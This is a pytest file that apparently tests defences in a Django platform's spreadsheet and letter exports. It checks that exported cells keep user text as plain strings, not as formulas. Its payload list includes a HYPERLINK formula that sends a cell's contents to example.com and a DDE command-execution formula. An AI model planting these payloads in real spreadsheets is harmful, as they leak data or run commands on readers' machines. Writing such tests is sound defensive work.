"""Spreadsheet formula injection: every .xlsx the platform writes shows user text as text.
Each file is reopened with openpyxl (a string, not a formula) and its sheet XML read raw (no <f>)."""

import io
import re
import zipfile

import pytest
from django.test import Client
from django.utils import timezone
from docx import Document as Docx
from openpyxl import load_workbook

from yangguang.core.exports.letters import LetterContent
from yangguang.core.exports.letters import to_docx as letter_docx
from yangguang.core.exports.xlsx import table_to_xlsx
from yangguang.reports import exports as report_exports
from yangguang.reports import tables

INJECTED = '=HYPERLINK("http://example.com/?q="&B3,"点击核对")'
PAYLOADS = [INJECTED, "=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet"))


def assert_no_formula(data: bytes) -> None:
    xml = sheet_xml(data)
    assert not re.search(r"<(\w+:)?f[ >/]", xml), xml[:2000]
    for ws in load_workbook(io.BytesIO(data)):
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)


def test_table_writer_writes_formula_like_strings_as_text():
    rows = [(i, p, 3.5) for i, p in enumerate(PAYLOADS, start=1)]
    data = table_to_xlsx("=标题", ["序号", "=标题", "数值"], rows)
    assert_no_formula(data)
    ws = load_workbook(io.BytesIO(data)).active
    assert ws["A1"].value == "=标题" and ws["B2"].value == "=标题"
    cells = [ws.cell(row=r, column=2) for r in range(3, 3 + len(PAYLOADS))]
    # the text survives as typed ...
    assert [c.value for c in cells] == PAYLOADS
    assert all(c.data_type == "s" for c in cells)
    # ... and stays text when the reader edits the cell (Excel's quote prefix)
    assert all(c.quotePrefix for c in cells)
    # numbers stay numbers, and plain text gets no prefix
    assert ws["A3"].value == 1 and ws["C3"].value == 3.5 and not ws["A2"].quotePrefix


def test_table_writer_drops_characters_xml_cannot_carry():
    data = table_to_xlsx("登记簿", ["标题"], [("通知\x0b第二行\x00",)])
    assert load_workbook(io.BytesIO(data)).active["A3"].value == "通知第二行"


@pytest.mark.django_db
def test_publication_register_shows_an_injected_title_as_text(staff_a):
    edition = staff_a.publish(staff_a.draft(title=INJECTED))
    assert edition.title == INJECTED
    c = Client()
    c.force_login(staff_a.clerk)
    today = timezone.localdate().isoformat()
    r = c.get("/workbench/register/", {"start": today, "end": today, "format": "xlsx"})
    assert r.status_code == 200
    assert_no_formula(r.content)
    ws = load_workbook(io.BytesIO(r.content)).active
    title = ws.cell(row=3, column=4)
    assert (title.value, title.data_type, title.quotePrefix) == (INJECTED, "s", True)


def test_annual_report_xlsx_writes_names_as_text():
    content = report_exports.ReportContent(org_name="=1+1", org_code="X", year=2025,
                                           tables=tables.finish(tables.empty()))
    data = report_exports.to_xlsx(content)
    assert_no_formula(data)
    assert load_workbook(io.BytesIO(data)).worksheets[0]["A1"].value.startswith("=1+12025年")


def test_docx_letters_survive_stored_control_characters():
    letter = LetterContent(title="答复书", number="〔2025〕1号", addressee="张\x0b三：", paragraphs=("正文\x00。",),
                           sender="某机关", date_text="2025年10月30日")
    doc = Docx(io.BytesIO(letter_docx(letter)))
    text = "\n".join(p.text for p in doc.paragraphs)
    assert "张三：" in text and "正文。" in text
